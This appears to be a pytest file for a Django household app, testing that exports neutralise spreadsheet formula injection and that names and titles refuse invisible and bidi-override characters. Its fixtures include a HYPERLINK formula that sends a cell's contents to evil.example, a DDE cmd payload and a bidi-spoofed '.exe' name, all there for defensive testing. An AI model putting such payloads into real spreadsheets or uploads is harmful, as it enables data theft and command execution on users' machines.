"""Exports never produce a formula; names, emails and titles refuse invisible, direction-changing
and formula-starting characters."""

import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.core.exceptions import ValidationError
from django.urls import reverse
from import_export.formats import base_formats

from handbook import services
from handbook.models import Proposal
from household.text_rules import refuse_formula_start, refuse_invisible_characters
from rent.admin import TenantAdmin
from rent.admin.resources import (
    CoOwnedItemResource,
    TenantResource,
    neutralise_cell,
    restore_cell,
)
from rent.models import CoOwnedItem, Tenant
from tests.builders import make_item, make_member, make_tenant
from tests.people import make_treasurer
from tests.refusals import refused

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"klicka")'


@pytest.fixture
def hostile_tenant():
    """A row saved before the rules existed (or straight into the database)."""
    tenant = make_tenant("Placeholder", room_adjustment=Decimal("-1400"))
    Tenant.objects.filter(pk=tenant.pk).update(name=HOSTILE, email="@SUM(1+1)*cmd|' /C calc'!A0")
    return tenant


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", HOSTILE])
def test_a_formula_start_is_neutralised_and_restored(value):
    safe = neutralise_cell(value)
    assert safe == "'" + value
    assert restore_cell(safe) == value


@pytest.mark.parametrize(
    "value", ["-1400.00", "-1 400,50", "+46", "Adam", "", None, 5, Decimal("-3")]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_csv_and_json_exports_hold_no_formula(hostile_tenant):
    dataset = TenantResource().export()
    csv_text = base_formats.CSV().export_data(dataset.__class__(*dataset, headers=dataset.headers))
    assert f"'{HOSTILE}" in csv_text.replace('""', '"')
    for line in csv_text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "@")), line
    assert '"-1400,00"' in csv_text  # an amount stays a number, not quoted
    rows = json.loads(base_formats.JSON().export_data(TenantResource().export()))
    assert rows[0]["name"] == "'" + HOSTILE
    assert rows[0]["email"].startswith("'@")


def test_the_xlsx_export_holds_text_not_formulas(hostile_tenant):
    content = base_formats.XLSX().export_data(TenantResource().export())
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert any(cell.value == "'" + HOSTILE for cell in cells)


def test_the_admin_export_download_is_formula_safe(client, hostile_tenant):
    client.force_login(make_treasurer())

    formats = [f.__name__ for f in TenantAdmin.formats]
    response = client.post(
        reverse("admin:rent_tenant_export"),
        {
            "format": str(formats.index("CSV")),
            "resource": "0",
            **{f"tenantresource_{name}": "on" for name in TenantResource.Meta.fields},
        },
    )
    assert response.status_code == 200, response.content[:500]
    text = response.content.decode("utf-8-sig")
    assert f"'{HOSTILE}".replace('"', '""') in text


def test_an_exported_text_starting_with_a_dash_reads_back_unchanged():
    make_item("Soffa", description="- grå\n- tre sitsar", value=Decimal("3000"))
    dataset = CoOwnedItemResource().export()
    assert dataset.dict[0]["description"] == "'- grå\n- tre sitsar"
    csv_text = base_formats.CSV().export_data(dataset)
    result = CoOwnedItemResource().import_data(tablib.Dataset().load(csv_text, format="csv"))
    assert not result.has_errors() and not result.has_validation_errors()
    assert CoOwnedItem.objects.get().description == "- grå\n- tre sitsar"


INVISIBLE = ["\u202e", "\u200b", "\u2066", "\x00", "\x07", "\ufeff", "\u2028"]


@pytest.mark.parametrize("character", INVISIBLE)
def test_invisible_and_bidi_characters_are_refused(character):
    with pytest.raises(ValidationError):
        refuse_invisible_characters(f"Ad{character}am")
    tenant = Tenant(name=f"Ad{character}am")
    with pytest.raises(ValidationError) as error:
        tenant.full_clean()
    assert "name" in error.value.message_dict


def test_ordinary_names_pass():
    for name in ("Åsa Öberg", "José", "Anne-Marie", "李雷", "O'Neill"):
        refuse_invisible_characters(name)
        refuse_formula_start(name)
        Tenant(name=name).full_clean()


def test_a_member_cannot_put_a_formula_in_their_own_email(client):
    member = make_member("bea", is_staff=True)
    tenant = member.tenant
    client.force_login(member)
    url = reverse("admin:rent_tenant_change", args=[tenant.pk])
    response = client.post(url, {"email": "=1+1@x.se"})
    assert response.status_code == 200  # the form again, with the error
    assert "kalkylark" in response.content.decode()
    tenant.refresh_from_db()
    assert tenant.email == ""


def test_an_import_with_a_bidi_override_in_a_name_is_refused():
    dataset = tablib.Dataset(headers=["name", "email"])
    dataset.append(["Evil\u202egnp.exe", ""])
    result = TenantResource().import_data(dataset, dry_run=True)
    assert result.has_validation_errors()
    assert not Tenant.objects.exists()


def test_a_handbook_title_with_an_invisible_character_is_refused(client):
    client.force_login(make_member("astrid"))
    response = client.post(
        reverse("handbook:propose_page"),
        {"title": "Regler\u200b", "slug": "regler", "body": "Text", "message": ""},
    )
    assert response.status_code == 200
    assert "osynligt" in response.content.decode()
    assert not Proposal.objects.exists()


def test_a_date_is_not_mistaken_for_a_formula():
    make_tenant("Adam", start_date=date(2024, 3, 1))
    assert TenantResource().export().dict[0]["start_date"] in ("2024-03-01", date(2024, 3, 1))


def test_a_page_title_from_any_path_refuses_a_bidi_override():
    with refused(services.ProposalError, "text_refused", "U\\+202E"):
        services.create_page(slug="regler", title="Regler\u202e", body="")
